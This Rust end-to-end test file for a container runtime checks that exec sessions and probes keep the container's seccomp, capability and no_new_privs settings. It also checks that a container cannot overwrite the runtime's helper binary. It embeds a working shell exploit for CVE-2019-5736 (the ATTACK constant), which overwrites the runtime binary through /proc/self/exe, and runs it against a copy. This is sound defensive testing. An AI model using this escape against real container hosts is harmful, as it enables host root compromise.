//! A container must not reach the runtime's helper binary nor leave its security
//! context through an exec: CVE-2019-5736 against a copy of the binaries, seccomp,
//! no_new_privs and capabilities of exec sessions and exec probes.

mod common;
#[path = "../../runc/tests/seccomp_probe/mod.rs"]
mod seccomp_probe;

use std::fs;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use common::Env;
use seccomp_probe::security_status;

/// The build's binaries, copied so that an attack can only ever damage the copy.
/// `podhost-runc` (the target) is a real copy; the others are hard links (same
/// directory tree, so the same filesystem), which the attack does not touch.
struct BinCopy {
    dir: PathBuf,
}

impl BinCopy {
    fn new() -> BinCopy {
        let build = common::bin()
            .parent()
            .map(Path::to_path_buf)
            .expect("build dir");
        let parent = build.parent().map(Path::to_path_buf).expect("target dir");
        let b: [u8; 4] = rand::random();
        let tag: String = b.iter().map(|x| format!("{x:02x}")).collect();
        let dir = parent.join(format!("e2e-bin-copy-{}-{tag}", std::process::id()));
        fs::create_dir_all(&dir).expect("copy dir");
        let copy = BinCopy { dir };
        for name in ["podhost", "podhost-shim", "pause"] {
            fs::hard_link(build.join(name), copy.dir.join(name)).expect("link binary");
        }
        fs::copy(build.join("podhost-runc"), copy.runc()).expect("copy podhost-runc");
        copy
    }

    fn runc(&self) -> PathBuf {
        self.dir.join("podhost-runc")
    }
}

impl Drop for BinCopy {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.dir);
    }
}

/// Writes to the helper binary that failed, as the attacker logged them.
fn failures(log: &str) -> usize {
    log.lines()
        .filter(|l| l.starts_with("WRITE-FAILED"))
        .count()
}

fn sha256_file(path: &Path) -> String {
    // coreutils: the debug build of a Rust hasher takes many seconds over the binary.
    let out = std::process::Command::new("sha256sum")
        .arg(path)
        .output()
        .expect("run sha256sum");
    assert!(out.status.success(), "sha256sum {path:?}");
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_string()
}

/// CVE-2019-5736 as published: the image's `/bin/cat` becomes `#!/proc/self/exe`, so
/// that an exec probe running `cat` makes the kernel start, as the container's process,
/// the binary the exec'd process was started from: the helper. (It is dynamically
/// linked, so the pod gets the host's loader and libraries, as a glibc image has them.)
/// The attacker loop opens `/proc/<pid>/exe` of each `cat` and tries for 2 s to overwrite
/// the file through `/proc/self/fd/3`: ETXTBSY while the helper runs, then the write
/// went in and the next helper call ran the payload as host root.
const ATTACK: &str = r#"
mkdir -p /tmp
rm /bin/cat && printf '#!/proc/self/exe\n' > /bin/cat && chmod 755 /bin/cat
for d in /proc/[0-9]*; do read -r c < $d/comm; echo "EXE $(readlink $d/exe 2>/dev/null) $c"; done
echo ARMED
while :; do
  for d in /proc/[0-9]*; do
    read -r c < $d/comm 2>/dev/null || continue
    [ "$c" = cat ] || continue
    if ! { command exec 3<"$d/exe"; } 2>/tmp/oerr; then
      read -r e < /tmp/oerr; echo "OPEN-FAILED $e"; continue
    fi
    exe=$(readlink /proc/self/fd/3)
    case "$exe" in
    *podhost-runc*)
      echo "TARGET $exe"
      i=0
      while [ $i -lt 200 ]; do
        if { printf '#!/bin/sh\necho PWNED >&2\nexit 1\n' >/proc/self/fd/3; } 2>/tmp/werr; then
          echo OVERWRITTEN; exec sleep 100000
        fi
        i=$((i+1)); usleep 10000
      done
      read -r e < /tmp/werr; echo "WRITE-FAILED $e" ;;
    esac
    exec 3<&-
  done
done
"#;

/// The directories of the helper's ELF loader and libraries, as `ldd` names them.
fn library_dirs(binary: &Path) -> Vec<PathBuf> {
    let out = std::process::Command::new("ldd")
        .arg(binary)
        .output()
        .expect("run ldd");
    let mut dirs: Vec<PathBuf> = String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .filter(|w| w.starts_with('/'))
        .filter_map(|w| Path::new(w).parent().map(Path::to_path_buf))
        .collect();
    dirs.sort();
    dirs.dedup();
    assert!(!dirs.is_empty(), "ldd found no libraries of {binary:?}");
    dirs
}

#[test]
fn cve_2019_5736_the_helper_binary_cannot_be_overwritten_from_a_container() {
    let copy = BinCopy::new();
    let before = sha256_file(&copy.runc());
    let env = Env::with_bin_dir(&copy.dir);
    let dirs = library_dirs(&copy.runc());
    let mut mounts = String::new();
    let mut volumes = String::new();
    for (i, d) in dirs.iter().enumerate() {
        let host = fs::canonicalize(d).expect("library dir");
        mounts.push_str(&format!(
            "    - {{name: lib{i}, mountPath: {}, readOnly: true}}\n",
            d.display()
        ));
        volumes.push_str(&format!(
            "  - {{name: lib{i}, hostPath: {{path: {}, type: Directory}}}}\n",
            host.display()
        ));
    }
    env.apply(
        "cve.yaml",
        &format!(
            r#"
apiVersion: v1
kind: Pod
metadata: {{name: cve}}
spec:
  shareProcessNamespace: true
  terminationGracePeriodSeconds: 1
  containers:
  - name: evil
    image: busybox
    command: ["sh", "-c", {attack:?}]
    readinessProbe:
      exec: {{command: ["cat"]}}
      periodSeconds: 1
    volumeMounts:
{mounts}  volumes:
{volumes}"#,
            attack = ATTACK
        ),
    );
    // Until the attack succeeded, or failed against at least 5 helper processes.
    let deadline = Instant::now() + Duration::from_secs(90);
    let log = loop {
        let log =
            String::from_utf8_lossy(&env.run(&["logs", "cve", "-c", "evil"]).stdout).into_owned();
        if log.lines().any(|l| l == "OVERWRITTEN")
            || failures(&log) >= 5
            || Instant::now() > deadline
        {
            break log;
        }
        std::thread::sleep(Duration::from_millis(500));
    };
    let after = sha256_file(&copy.runc());
    if after != before {
        // Put the helper back so that teardown can still delete the pod.
        fs::copy(common::bin().with_file_name("podhost-runc"), copy.runc())
            .expect("restore podhost-runc");
    }
    env.teardown();
    assert_eq!(
        after, before,
        "the container overwrote the host's podhost-runc; attacker log:\n{log}"
    );
    assert!(!log.lines().any(|l| l == "OVERWRITTEN"), "{log}");
    // The attack was carried out: the attacker held the helper's binary open and every
    // write failed.
    assert!(
        failures(&log) >= 5,
        "the attacker never held the helper binary:\n{log}"
    );
    // Neither the shim nor the daemon is visible inside the pod (shared PID namespace).
    for l in log.lines().filter(|l| l.starts_with("EXE")) {
        assert!(
            !l.contains("podhost-shim") && !l.contains("/podhost ") && !l.ends_with(" podhost"),
            "a host process is visible in the pod: {l}"
        );
    }
}

/// The readiness probe passes only if the probe's own process has the security context
/// of the container's PID 1 (its init) and cannot create a user namespace.
const SAME_AS_INIT: &str = r#"f='^(Uid|Gid|Groups|NoNewPrivs|Seccomp|Seccomp_filters|Cap[A-Za-z]+):'
[ "$(grep -E "$f" /proc/self/status)" = "$(grep -E "$f" /proc/1/status)" ] && grep -q '^Seccomp:.2' /proc/self/status && ! unshare -U true 2>/dev/null"#;

#[test]
fn exec_sessions_and_exec_probes_run_under_the_containers_seccomp_caps_and_nnp() {
    let env = Env::new();
    let probe_dir = env.root.join("probe");
    seccomp_probe::build(&probe_dir);
    let container = |name: &str, security: &str| {
        format!(
            r#"  - name: {name}
    image: busybox
    command: ["sh", "-c", "/probe/seccomp-probe; exec sleep 3600"]
    securityContext: {{seccompProfile: {{type: RuntimeDefault}}{security}}}
    volumeMounts: [{{name: probe, mountPath: /probe, readOnly: true}}]
    readinessProbe:
      exec: {{command: ["sh", "-c", {probe:?}]}}
      periodSeconds: 1
"#,
            probe = SAME_AS_INIT
        )
    };
    env.apply(
        "secexec.yaml",
        &format!(
            "apiVersion: v1\nkind: Pod\nmetadata: {{name: secexec}}\nspec:\n  \
             terminationGracePeriodSeconds: 1\n  containers:\n{}{}  volumes:\n  \
             - {{name: probe, hostPath: {{path: {}, type: Directory}}}}\n",
            // Kubernetes' default: no no_new_privs, the default capabilities.
            container("plain", ""),
            // no_new_privs, no capability, another user.
            container(
                "locked",
                ", allowPrivilegeEscalation: false, runAsUser: 1000, runAsGroup: 2000, \
                 capabilities: {drop: [ALL]}"
            ),
            probe_dir.display()
        ),
    );
    // Ready only once every exec probe saw itself confined as its container.
    env.wait_ready("secexec");
    for c in ["plain", "locked"] {
        assert_eq!(
            env.ok(&["logs", "secexec", "-c", c]),
            seccomp_probe::RUNTIME_DEFAULT,
            "{c}'s own process"
        );
        let exec = |args: &[&str]| {
            let mut all = vec!["exec", "secexec", "-c", c, "--"];
            all.extend_from_slice(args);
            env.ok(&all)
        };
        assert_eq!(
            exec(&["/probe/seccomp-probe"]),
            seccomp_probe::RUNTIME_DEFAULT,
            "{c}: exec'd process"
        );
        let own = security_status(&exec(&["cat", "/proc/self/status"]));
        let init = security_status(&exec(&["cat", "/proc/1/status"]));
        assert_eq!(own, init, "{c}: exec'd process vs the container's init");
        assert!(own.contains(&"Seccomp: 2".to_string()), "{c}: {own:?}");
        let nnp = if c == "locked" { "1" } else { "0" };
        assert!(own.contains(&format!("NoNewPrivs: {nnp}")), "{c}: {own:?}");
    }
    env.teardown();
}
